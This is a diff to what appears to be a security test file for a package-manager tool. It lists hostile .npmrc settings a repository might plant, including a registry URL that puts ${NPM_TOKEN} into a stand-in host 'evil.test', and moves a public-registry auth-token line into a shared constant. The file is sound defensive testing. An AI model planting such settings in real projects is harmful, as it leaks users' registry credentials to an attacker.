@@ -5,6 +5,7 @@ import { install, never, useEngines, useHermeticProcess } from '../support/engin
 import { useManager } from '../support/manager-suite.ts';
 import { driverContextOf, locatorOf, testManagers } from '../support/managers.ts';
 import { tempFolder, useTempProjects, type FileBody, type TempProject } from '../support/temp-project.ts';
+import { publicToken } from '../support/public-registry.ts';
 
 /** What a repository may write into its own files to make npm do more than install. `{out}` is a folder outside of it. */
 interface Trick {
@@ -142,7 +143,7 @@ const tricks: readonly Trick[] = [
     npmrc: '@corp:registry=http://${NPM_TOKEN}.evil.test/\n',
     code: 'QM_PROJECT_HOOKS',
   },
-  { what: 'names a token for the public registry', npmrc: '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' },
+  { what: 'names a token for the public registry', npmrc: `${publicToken}\n` },
   { what: 'chooses other workspaces', npmrc: 'workspaces=true\nworkspace=elsewhere\n', code: 'QM_MANAGER_FAILED' },
   { what: 'saves nothing', npmrc: 'save=false\nno-save=true\n' },
   { what: 'forces', npmrc: 'force=true\n' },
